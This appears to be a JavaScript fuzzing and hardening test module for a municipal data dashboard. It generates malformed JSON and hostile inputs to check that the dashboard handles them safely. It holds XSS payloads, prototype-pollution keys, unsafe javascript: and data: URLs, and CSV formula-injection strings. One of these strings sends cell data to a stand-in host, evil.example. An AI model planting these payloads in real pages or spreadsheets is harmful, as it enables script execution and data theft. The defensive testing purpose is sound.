// Hostile documents for the hardening suite, made from the sample data without any dependency:
// a seeded PRNG (the same documents on every run, so a failure can be reproduced by its name),
// named mutations that cover each kind issue 17 lists, and random ones on top.

/** mulberry32: small, fast and good enough to pick paths and values. */
export function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// JSON cannot say Infinity or an own `__proto__` key through JSON.stringify: placeholders are
// written as strings and replaced in the text afterwards.
const INFINITY = '__qwfuzz_inf__';
const NEG_INFINITY = '__qwfuzz_neginf__';
const PROTO_KEY = '__qwfuzz_proto__';

export function serialize(document) {
  return JSON.stringify(document, null, 1)
    .replaceAll(`"${INFINITY}"`, '1e999')
    .replaceAll(`"${NEG_INFINITY}"`, '-1e999')
    .replaceAll(`"${PROTO_KEY}"`, '"__proto__"');
}

const clone = (value) => structuredClone(value);

/** Every path (array of keys) in `value` whose parent is an object or array. */
function paths(value, prefix = [], out = []) {
  if (value && typeof value === 'object') {
    for (const key of Object.keys(value)) {
      out.push([...prefix, key]);
      // Geometry coordinates would dominate the random choice: one in a hundred is enough.
      if (key === 'coordinates') continue;
      paths(value[key], [...prefix, key], out);
    }
  }
  return out;
}

const parentOf = (document, path) => path.slice(0, -1).reduce((node, key) => node?.[key], document);
function set(document, path, value) {
  const parent = parentOf(document, path);
  if (parent && typeof parent === 'object') parent[path.at(-1)] = value;
  return document;
}
function remove(document, path) {
  const parent = parentOf(document, path);
  if (Array.isArray(parent)) parent.splice(Number(path.at(-1)), 1);
  else if (parent && typeof parent === 'object') delete parent[path.at(-1)];
  return document;
}
const get = (document, path) => path.reduce((node, key) => node?.[key], document);

/** Replaces every string equal to `from` (an id and all references to it) with `to`. */
function renameEverywhere(value, from, to) {
  if (Array.isArray(value)) return value.map((item) => renameEverywhere(item, from, to));
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, renameEverywhere(item, from, to)]));
  return value === from ? to : value;
}

const LONG_UNBROKEN = 'Ä'.repeat(10_000);
const LONG_WORDS = 'Sehr langer Name '.repeat(600).trim();
const MEGABYTE = 'x'.repeat(1024 * 1024);
const UNICODE = [
  '\u202eRTL-Umkehrung\u202c',
  'Null\u0000Zeichen',
  'Zalgo Z\u0335\u0322\u0348\u0301'.repeat(50),
  '🏠👨‍👩‍👧‍👦🇩🇪',
  '\u200b\u200c\u200d\ufeff',
  '\ud800 einsames Surrogat',
  'اللغة العربية',
  '\u0085\u2028\u2029Zeilen',
];

/** The named mutations: each kind of hostile input at least once. */
function namedMutations(sample) {
  const cases = [];
  const add = (name, make) => cases.push({ name, make });
  const kinder = sample.indicators.findIndex((indicator) => indicator.id === 'kinderarmut');
  const ind = ['indicators', kinder];

  // deleted
  for (const path of [['version'], ['meta'], ['meta', 'title'], ['areaLevels'], ['areaLevels', 0, 'geometry'], ['indicators'], [...ind, 'values'], [...ind, 'level'], ['housing'], ['housing', 'stock'], ['funding'], ['funding', 'programmes', 0, 'budget'], ['funding', 'programmes', 1, 'projects']])
    add(`delete ${path.join('.')}`, (doc) => remove(doc, path));
  // retyped
  for (const [path, value] of [
    [['version'], '1'],
    [['meta'], []],
    [['areaLevels'], {}],
    [['indicators'], 'kinderarmut'],
    [[...ind, 'values', 0, 'value'], '36,1'],
    [[...ind, 'values', 0, 'value'], true],
    [[...ind, 'values', 0, 'period'], 2016],
    [[...ind, 'values'], { 0: 1 }],
    [['areaLevels', 0, 'geometry', 'features'], {}],
    [['housing', 'stock', 0, 'value'], [1743]],
    [['funding', 'programmes', 0], 'staerkungspakt'],
    [['funding', 'programmes', 0, 'projects', 0, 'amount'], { value: 1 }],
    [['meta', 'sources'], 'Quelle'],
  ])
    add(`retype ${path.join('.')} → ${JSON.stringify(value)}`, (doc) => set(doc, path, value));
  // huge and non-finite numbers
  for (const [path, value] of [
    [[...ind, 'values', 0, 'value'], 1e308],
    [[...ind, 'values', 0, 'value'], -1e308],
    [[...ind, 'values', 0, 'value'], INFINITY],
    [[...ind, 'values', 1, 'value'], NEG_INFINITY],
    [[...ind, 'total', 0, 'value'], INFINITY],
    [['housing', 'stock', 0, 'value'], 1e308],
    [['housing', 'stock', 0, 'value'], INFINITY],
    [['funding', 'programmes', 0, 'budget'], 1e300],
    [['funding', 'programmes', 0, 'budget'], INFINITY],
    [['funding', 'programmes', 0, 'projects', 0, 'amount'], -1e308],
    [[...ind, 'decimals'], 1e9],
  ])
    add(`number ${path.join('.')} = ${value}`, (doc) => set(doc, path, value));
  add('NaN literal (not JSON)', (doc) => serialize(doc).replace('36.1', 'NaN'));
  // unicode
  UNICODE.forEach((text, i) => add(`unicode #${i} in labels and names`, (doc) => {
    doc.meta.title = text;
    doc.indicators[kinder].label = text;
    doc.areaLevels[0].geometry.features[0].properties.name = text;
    doc.funding.programmes[0].name = text;
    doc.housing.unit = text;
    return doc;
  }));
  add('unicode area id', (doc) => renameEverywhere(doc, 'innenstadt', 'innenstädt-🏠'));
  // prototype keys as ids and field names
  for (const id of ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'prototype', 'valueOf'])
    add(`area id "${id}"`, (doc) => renameEverywhere(doc, 'schepersfeld', id));
  add('indicator id "constructor"', (doc) => renameEverywhere(doc, 'kinderarmut', 'constructor'));
  add('programme id "__proto__"', (doc) => renameEverywhere(doc, 'soziale-angebote', '__proto__'));
  add('level id "constructor"', (doc) => renameEverywhere(doc, 'sozialraum', 'constructor'));
  add('__proto__ key in meta', (doc) => set(doc, ['meta', PROTO_KEY], { polluted: true, title: 'x' }));
  add('__proto__ key in a value', (doc) => set(doc, [...ind, 'values', 0, PROTO_KEY], { value: 1 }));
  add('__proto__ key in feature properties', (doc) => set(doc, ['areaLevels', 0, 'geometry', 'features', 0, 'properties', PROTO_KEY], { id: 'x' }));
  add('__proto__ key at the top', (doc) => set(doc, [PROTO_KEY], { version: 2 }));
  add('constructor key in a programme', (doc) => set(doc, ['funding', 'programmes', 0, 'constructor'], { prototype: { polluted: true } }));
  add('idProperty "__proto__"', (doc) => set(doc, ['areaLevels', 0, 'idProperty'], '__proto__'));
  add('nameProperty "constructor"', (doc) => set(doc, ['areaLevels', 0, 'nameProperty'], 'constructor'));
  // broken geometry
  const feature = ['areaLevels', 0, 'geometry', 'features', 0];
  for (const [what, value] of [
    ['null geometry', null],
    ['empty coordinates', { type: 'Polygon', coordinates: [] }],
    ['empty ring', { type: 'Polygon', coordinates: [[]] }],
    ['unclosed ring', { type: 'Polygon', coordinates: [[[6.6, 51.6], [6.61, 51.6], [6.61, 51.61]]] }],
    ['strings as coordinates', { type: 'Polygon', coordinates: [[['NaN', 'x'], [6.61, 51.6], [6.61, 51.61], ['NaN', 'x']]] }],
    ['coordinates out of range', { type: 'Polygon', coordinates: [[[999, 999], [-999, 999], [-999, -999], [999, 999]]] }],
    ['unknown type', { type: 'Polygonx', coordinates: [[[6.6, 51.6], [6.61, 51.6], [6.61, 51.61], [6.6, 51.6]]] }],
    ['point', { type: 'Point', coordinates: [6.6, 51.6] }],
    ['deep nesting', { type: 'Polygon', coordinates: [[[[[[[6.6, 51.6]]]]]]] }],
  ])
    add(`geometry: ${what}`, (doc) => set(doc, [...feature, 'geometry'], value));
  add('geometry: infinite coordinate', (doc) => set(doc, [...feature, 'geometry', 'coordinates', 0, 1, 0], INFINITY));
  add('geometry: features missing', (doc) => remove(doc, ['areaLevels', 0, 'geometry', 'features']));
  add('geometry: duplicate feature ids', (doc) => set(doc, ['areaLevels', 0, 'geometry', 'features', 1, 'properties', 'id'], 'innenstadt'));
  add('geometry URL that is 404', (doc) => set(doc, ['areaLevels', 0, 'geometry'], '/fault/404.json'));
  add('geometry URL that is HTML', (doc) => set(doc, ['areaLevels', 0, 'geometry'], '/fault/html.json'));
  add('geometry URL javascript:', (doc) => set(doc, ['areaLevels', 0, 'geometry'], 'javascript:alert(1)'));
  add('geometry URL data:', (doc) => set(doc, ['areaLevels', 0, 'geometry'], 'data:application/json,{"type":"FeatureCollection","features":[]}'));
  // truncated JSON
  for (const fraction of [0, 0.001, 0.1, 0.5, 0.9, 0.999]) add(`truncated at ${fraction * 100} %`, (doc) => {
    const text = serialize(doc);
    return text.slice(0, Math.floor(text.length * fraction));
  });
  add('only a byte-order mark', () => '\ufeff');
  add('byte-order mark before a good document', (doc) => `\ufeff${serialize(doc)}`);
  add('not an object', () => '[1,2,3]');
  add('JSON null', () => 'null');
  // unsafe URLs
  const unsafe = ['javascript:window.__qwPwned=1', 'JaVaScRiPt:window.__qwPwned=1', ' javascript:window.__qwPwned=1', 'java\tscript:window.__qwPwned=1', 'data:text/html,<script>window.__qwPwned=1</script>', 'vbscript:msgbox(1)'];
  unsafe.forEach((url, i) => add(`unsafe URL #${i} in every URL field`, (doc) => {
    doc.meta.licenseUrl = url;
    doc.meta.sources.forEach((source) => (source.url = url));
    doc.housing.sourceUrl = url;
    doc.funding.source.url = url;
    doc.funding.programmes.forEach((programme) => {
      if (programme.source && typeof programme.source === 'object') programme.source.url = url;
      programme.url = url;
    });
    return doc;
  }));
  // long texts
  for (const [what, text] of [['unbroken 10,000 characters', LONG_UNBROKEN], ['10,000 characters of words', LONG_WORDS]]) {
    add(`indicator label: ${what}`, (doc) => set(doc, [...ind, 'label'], text));
    add(`area name: ${what}`, (doc) => set(doc, [...feature, 'properties', 'name'], text));
    add(`programme name: ${what}`, (doc) => set(doc, ['funding', 'programmes', 1, 'name'], text));
    add(`meta title: ${what}`, (doc) => set(doc, ['meta', 'title'], text));
    add(`indicator unit: ${what}`, (doc) => set(doc, [...ind, 'unit'], text));
  }
  add('trend unit of 150 characters', (doc) => set(doc, [...ind, 'unit'], 'Prozent der Kinder unter 15 Jahren in Bedarfsgemeinschaften'.repeat(3)));
  add('indicator unit of 1 MB', (doc) => set(doc, [...ind, 'unit'], MEGABYTE));
  add('housing unit of 1 MB', (doc) => set(doc, ['housing', 'unit'], MEGABYTE));
  add('project name of 1 MB', (doc) => set(doc, ['funding', 'programmes', 1, 'projects', 0, 'name'], MEGABYTE));
  add('10,000 projects', (doc) => {
    const programme = doc.funding.programmes[1];
    const template = programme.projects[0];
    programme.projects = Array.from({ length: 10_000 }, (_, i) => ({ ...template, id: `p-${i}`, name: `Projekt ${i}` }));
    return doc;
  });
  add('10,000 values for one area', (doc) => {
    const values = doc.indicators[kinder].values;
    for (let i = 0; i < 10_000; i++) values.push({ area: 'innenstadt', period: `${1000 + i}`, value: i % 100 });
    return doc;
  });
  return cases;
}

const RETYPE = [null, true, 0, -1, '', 'x', [], {}, [null], { '': '' }];
const HUGE = [1e308, -1e308, Number.MAX_SAFE_INTEGER * 1024, 5e-324, INFINITY, NEG_INFINITY, -0];

/** One random mutation of `doc` at a random path. */
function randomMutation(doc, random) {
  const all = paths(doc);
  const path = all[Math.floor(random() * all.length)];
  const pick = (list) => list[Math.floor(random() * list.length)];
  const kind = pick(['delete', 'retype', 'huge', 'unicode', 'proto', 'long']);
  const current = get(doc, path);
  switch (kind) {
    case 'delete':
      remove(doc, path);
      break;
    case 'retype':
      set(doc, path, pick(RETYPE));
      break;
    case 'huge':
      set(doc, path, pick(HUGE));
      break;
    case 'unicode':
      set(doc, path, typeof current === 'string' ? `${current}${pick(UNICODE)}` : pick(UNICODE));
      break;
    case 'proto': {
      const parent = parentOf(doc, path);
      if (parent && typeof parent === 'object' && !Array.isArray(parent)) parent[pick([PROTO_KEY, 'constructor', 'prototype'])] = current ?? {};
      else set(doc, path, pick(['__proto__', 'constructor']));
      break;
    }
    case 'long':
      set(doc, path, pick([LONG_UNBROKEN, LONG_WORDS]));
      break;
  }
  return `${kind} ${path.join('.')}`;
}

/**
 * At least `count` documents: the named mutations, then random ones (one to three mutations each)
 * from a seeded generator. Each is `{ name, text }`; `text` may be invalid JSON on purpose.
 */
export function fuzzDocuments(sampleText, { count = 120, seed = 17 } = {}) {
  const sample = JSON.parse(sampleText);
  const cases = namedMutations(sample).map(({ name, make }) => {
    const result = make(clone(sample));
    return { name, text: typeof result === 'string' ? result : serialize(result) };
  });
  const random = prng(seed);
  for (let i = cases.length; i < count; i++) {
    const doc = clone(sample);
    const steps = 1 + Math.floor(random() * 3);
    const names = [];
    for (let step = 0; step < steps; step++) names.push(randomMutation(doc, random));
    cases.push({ name: `random #${i}: ${names.join('; ')}`, text: serialize(doc) });
  }
  return cases;
}

// ------------------------------------------------------------------ hostile strings

/** Strings that must never run, link or compute, in every text field. */
export const HOSTILE_STRINGS = [
  '<img src=x onerror="window.__qwPwned=1">',
  '"><script>window.__qwPwned=1</script>',
  '<svg onload="window.__qwPwned=1"></svg>',
  '=HYPERLINK("https://evil.example/?d="&A1;"Klick")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1',
  "{{constructor.constructor('window.__qwPwned=1')()}}",
];

const TEXT_KEYS = new Set(['title', 'description', 'descriptionEn', 'publisher', 'label', 'labelEn', 'name', 'nameEn', 'note', 'noteEn', 'text', 'textEn', 'unit', 'funder', 'recipient', 'size', 'sizeEn', 'source']);
const URL_KEYS = new Set(['url', 'licenseUrl', 'sourceUrl']);
const UNSAFE_URLS = ['javascript:window.__qwPwned=1', 'data:text/html,<script>window.__qwPwned=1</script>'];

/**
 * The sample with a hostile string in every text field (taking turns), and with `unsafeUrls` an
 * unsafe URL in every URL field. Ids stay, so without unsafe URLs the document remains valid and
 * every widget renders it (a contract that refuses such URLs may refuse the other one).
 */
export function hostileDocument(sampleText, { unsafeUrls = false } = {}) {
  let turn = 0;
  let urlTurn = 0;
  const fields = { text: 0, url: 0 };
  const walk = (value, key) => {
    if (Array.isArray(value)) return value.map((item) => walk(item, key));
    if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([k, item]) => [k, k === 'coordinates' ? item : walk(item, k)]));
    if (typeof value !== 'string') return value;
    if (TEXT_KEYS.has(key)) {
      fields.text++;
      return HOSTILE_STRINGS[turn++ % HOSTILE_STRINGS.length];
    }
    if (unsafeUrls && URL_KEYS.has(key)) {
      fields.url++;
      return UNSAFE_URLS[urlTurn++ % UNSAFE_URLS.length];
    }
    return value;
  };
  const document = walk(JSON.parse(sampleText));
  return { text: JSON.stringify(document), fields };
}

// ------------------------------------------------------------------ CSV

/** Splits CSV text (RFC 4180 quoting) with `separator` into rows of cells. */
export function parseCsv(text, separator) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  const body = text.charCodeAt(0) === 0xfeff ? text.slice(1) : text;
  for (let i = 0; i < body.length; i++) {
    const char = body[i];
    if (quoted) {
      if (char === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"' && cell === '') quoted = true;
    else if (char === separator) {
      row.push(cell);
      cell = '';
    } else if (char === '\n' || (char === '\r' && body[i + 1] === '\n')) {
      if (char === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += char;
  }
  if (cell !== '' || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** Cells a spreadsheet would read as a formula: `=`, `+`, `-`, `@`, tab or CR first, unless it is a plain number. */
export const isFormulaCell = (cell) => /^[=+\-@\t\r]/.test(cell) && !/^[-+]?\d[\d.,]*(e[-+]?\d+)?$/i.test(cell.trim());
